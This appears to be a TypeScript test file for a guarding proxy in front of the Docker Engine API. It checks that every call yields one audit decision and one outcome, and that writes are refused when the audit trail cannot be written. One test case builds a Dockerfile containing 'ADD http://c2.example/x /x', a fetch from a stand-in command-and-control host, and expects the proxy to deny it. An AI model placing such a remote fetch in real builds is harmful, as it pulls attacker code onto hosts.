import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import t from 'tap';
import { until } from '../support/command.js';
import { bytes, echo, hang, json, reset, type Behaviour } from '../support/recording-upstream.js';
import { RESET, talk, type Part } from '../support/raw.js';
import { END, file, tar } from '../support/tar.js';
import { chunked, create, EVIL, get, HARMLESS, lines, PING, POLICY, post, postJson } from './case.js';
import {
  ping,
  startGuarded,
  unpaired,
  type AuditLine,
  type Guarded,
  type GuardedOptions,
} from './guarded.js';

// INVARIANT: one decision and one outcome for each call, in whatever way it ends.

const directory = mkdtempSync(join(tmpdir(), 'bw-outcomes-'));
t.teardown(() => rmSync(directory, { recursive: true, force: true }));

const UPGRADE = ['Connection: Upgrade', 'Upgrade: tcp'];
const EXEC = postJson('/v1.41/exec/e/start', '{}', ...UPGRADE);
const EVENTS = get('/v1.41/events');
const TAR = 'Content-Type: application/x-tar';

function build(dockerfile: string, sent = Infinity): string {
  const context = Buffer.concat([tar(file('Dockerfile', dockerfile)), END]).toString('latin1');
  const head = ['POST /v1.41/build?t=a HTTP/1.1', 'Host: d', TAR, `Content-Length: ${context.length}`];
  return lines(head, context.slice(0, sent));
}

/** 200 for everything but a build, which is dealt with as soon as its head is there. */
const onBuild =
  (behaviour: Behaviour) =>
  ({ upstream }: Guarded): void => {
    upstream.onHead = (request, socket) => {
      if (!request.call.includes('/build')) return false;
      behaviour(request, socket);
      return true;
    };
  };
const engine =
  (behaviour: Behaviour) =>
  ({ upstream }: Guarded): void => {
    upstream.behave = behaviour;
  };

interface Way {
  readonly name: string;
  readonly parts: readonly Part[];
  readonly prepare?: (guarded: Guarded) => void;
  /** Of the decision. */
  readonly code: string;
  readonly end: string;
  /** In the outcome; and, where the client is still there, what it got. */
  readonly status: number;
}

const STREAM = 'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\n{}\n\r\n';
const CREATE_HEAD = ['POST /v1.41/containers/create HTTP/1.1', 'Host: d', 'Content-Type: application/json'];
const BEGUN = lines([...CREATE_HEAD, 'Content-Length: 200'], '{"Image":');

const WAYS: readonly Way[] = [
  {
    name: 'a head that is refused',
    parts: [get('/no/such')],
    code: 'unknown-operation',
    end: 'refused',
    status: 404,
  },
  {
    name: 'stopped at admission',
    parts: [post('/v1.41/containers/prune')],
    code: 'no-rule',
    end: 'refused',
    status: 403,
  },
  { name: 'a body that is too slow', parts: [BEGUN], code: 'body-timeout', end: 'refused', status: 408 },
  {
    name: 'a body that is too large',
    parts: [create(`{"Image":"${'x'.repeat(20_000)}"}`)],
    code: 'body-too-large',
    end: 'refused',
    status: 413,
  },
  {
    name: 'chunks that are too large',
    parts: [
      chunked('POST', '/v1.41/containers/create', ['Content-Type: application/json'], 'x'.repeat(20_000)),
    ],
    code: 'body-too-large',
    end: 'refused',
    status: 413,
  },
  {
    name: 'a body that is no JSON',
    parts: [create('{"Image":')],
    code: 'invalid-json',
    end: 'refused',
    status: 400,
  },
  { name: 'denied', parts: [EVIL], code: 'hazard', end: 'refused', status: 403 },
  { name: 'allowed', parts: [create(HARMLESS)], code: 'allowed', end: 'complete', status: 200 },
  {
    name: 'the engine answers with an error',
    parts: [create(HARMLESS)],
    prepare: engine(json(409, '{"message":"conflict"}')),
    code: 'allowed',
    end: 'complete',
    status: 409,
  },
  {
    name: 'the engine resets',
    parts: [PING],
    prepare: engine(reset),
    code: 'allowed',
    end: 'upstream-error',
    status: 502,
  },
  {
    name: 'the engine is silent',
    parts: [PING],
    prepare: engine(hang),
    code: 'allowed',
    end: 'upstream-timeout',
    status: 504,
  },
  {
    name: 'the engine babbles',
    parts: [PING],
    prepare: engine(bytes('SSH-2.0-x\r\n\r\n', 'end')),
    code: 'allowed',
    end: 'upstream-error',
    status: 502,
  },
  {
    name: 'the engine breaks off in its answer',
    parts: [EVENTS],
    prepare: engine(bytes(STREAM, 'reset')),
    code: 'allowed',
    end: 'upstream-error',
    status: 200,
  },
  {
    name: 'hijacked, and the client leaves',
    parts: [EXEC, 150, RESET],
    prepare: engine(echo()),
    code: 'allowed',
    end: 'client-gone',
    status: 101,
  },
  {
    name: 'hijacked, and the engine ends',
    parts: [EXEC],
    prepare: engine(
      (_request, socket) =>
        void socket.end('HTTP/1.1 101 UPGRADED\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\nout'),
    ),
    code: 'allowed',
    end: 'complete',
    status: 101,
  },
  {
    name: 'a hijack that the engine refuses',
    parts: [EXEC],
    prepare: engine(json(404, '{"message":"No such exec"}')),
    code: 'allowed',
    end: 'complete',
    status: 404,
  },
  {
    name: 'a hijack that the engine resets',
    parts: [EXEC],
    prepare: engine(reset),
    code: 'allowed',
    end: 'upstream-error',
    status: 502,
  },
  {
    name: 'a hijack without an upgrade',
    parts: [postJson('/v1.41/exec/e/start', '{}')],
    prepare: engine(
      (_request, socket) =>
        void socket.end('HTTP/1.1 101 UPGRADED\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\nout'),
    ),
    code: 'allowed',
    end: 'complete',
    status: 200,
  },
  {
    name: 'the client leaves in its body',
    parts: [BEGUN, 50, RESET],
    code: 'body-cut',
    end: 'refused',
    status: 0,
  },
  {
    name: 'the client leaves before the answer',
    parts: [PING, 150, RESET],
    prepare: engine(hang),
    code: 'allowed',
    end: 'client-gone',
    status: 0,
  },
  {
    name: 'the client leaves in the answer',
    parts: [EVENTS, 150, RESET],
    prepare: engine(bytes(STREAM)),
    code: 'allowed',
    end: 'client-gone',
    status: 200,
  },
  { name: 'a build', parts: [build('FROM alpine\n')], code: 'allowed', end: 'complete', status: 200 },
  {
    name: 'a build that is denied',
    parts: [build('FROM alpine\nADD http://c2.example/x /x\n')],
    code: 'hazard',
    end: 'refused',
    status: 403,
  },
  {
    name: 'a context that is no archive',
    parts: [
      post('/v1.41/build?t=a').replace('Content-Length: 0', `${TAR}\r\nContent-Length: 600`) +
        'x'.repeat(600),
    ],
    code: 'context-broken',
    end: 'refused',
    status: 400,
  },
  {
    name: 'a build that the engine refuses early',
    parts: [build('FROM alpine\n', 300)],
    prepare: onBuild(json(400, '{"message":"invalid tag"}')),
    code: 'engine-refused',
    end: 'complete',
    status: 400,
  },
  {
    name: 'a build whose engine breaks off',
    parts: [build('FROM alpine\n', 300)],
    prepare: onBuild(reset),
    code: 'upstream',
    end: 'refused',
    status: 502,
  },
  {
    name: 'a build that the engine answers too early',
    parts: [build('FROM alpine\n', 300)],
    prepare: onBuild(bytes(STREAM)),
    code: 'upstream-early',
    end: 'refused',
    status: 502,
  },
  {
    name: 'a build whose client leaves',
    parts: [build('FROM alpine\n', 300), 100, RESET],
    code: 'body-cut',
    end: 'client-gone',
    status: 0,
  },
];

const OPTIONS: GuardedOptions = {
  policy: POLICY,
  limits: { body: 16_384, bodyTimeout: 600 },
  upstreamTimeout: 500,
  upstreamOn: 'tcp',
};

const isWhole = (records: readonly AuditLine[]): boolean => records.some(({ event }) => event === 'outcome');

async function recordsOf(guarded: Guarded, parts: readonly Part[]): Promise<[AuditLine[], number]> {
  guarded.audit();
  const got = await talk(guarded.tcp, parts, { linger: 10, answers: parts.includes(RESET) ? 0 : 1 });
  const records: AuditLine[] = [];
  await until(() => {
    records.push(...guarded.audit());
    return isWhole(records);
  }, 4_000);
  // Time for a record too many.
  await new Promise((resolve) => setTimeout(resolve, 50));
  records.push(...guarded.audit());
  return [records, got.answers[0]?.status ?? 0];
}

await t.test('one decision and one outcome, in whatever way a call ends', async (t) => {
  const guarded = await startGuarded(OPTIONS);
  t.teardown(() => guarded.close());
  for (const { name, parts, prepare, code, end, status } of WAYS) {
    guarded.upstream.behave = json();
    guarded.upstream.onHead = undefined;
    prepare?.(guarded);
    const [records, answered] = await recordsOf(guarded, parts);
    t.strictSame(
      records.map(({ event }) => event),
      ['decision', 'outcome'],
      `${name}: one each, in this order`,
    );
    t.equal(records[0]?.code, code, `${name}: ${records[0]?.reason}`);
    t.match(records[1], { end, status }, `${name}: ${JSON.stringify(records[1])}`);
    if (!parts.includes(RESET)) t.equal(answered, status, name);
  }
  guarded.upstream.behave = json();
  guarded.upstream.onHead = undefined;
  t.equal(await ping(guarded.tcp), 200);
  t.same(unpaired(guarded.auditText()), []);
  t.equal(await guarded.metric('breakwater_buffered_body_bytes'), 0, 'no call holds memory any more');
});

await t.test(
  'a trail that cannot be written stops what changes something, and its client hears why',
  async (t) => {
    for (const [onFailure, statuses] of [
      [{ write: 'deny', read: 'deny' }, [503, 503]],
      [{ write: 'deny', read: 'allow' }, [503, 200]],
      [{ write: 'allow', read: 'allow' }, [200, 200]],
    ] as const) {
      const guarded = await startGuarded({
        ...OPTIONS,
        config: { audit: { file: '/dev/full', alerts: false, onFailure } },
      });
      t.teardown(() => guarded.close());
      const made = await talk(guarded.tcp, [create(HARMLESS)]);
      const seen = await talk(guarded.tcp, [get('/v1.41/containers/json')]);
      t.same([made.answers[0]?.status, seen.answers[0]?.status], statuses, JSON.stringify(onFailure));
      t.equal(guarded.upstream.requests.length, statuses.filter((status) => status === 200).length);
      const built = await talk(guarded.tcp, [build('FROM alpine\n')]);
      t.equal(built.answers[0]?.status, statuses[0], 'a build as well');
      if (statuses[0] === 503) {
        t.match(made.text, /audit trail cannot be written \(no space is left on its disk\)/);
        t.notOk(guarded.upstream.raw().includes(END.toString('latin1')), 'no end of an archive');
      }
      const denied = await talk(guarded.tcp, [EVIL]);
      t.ok([403, 503].includes(denied.answers[0]?.status ?? 0), 'what is denied stays denied');
    }
  },
);
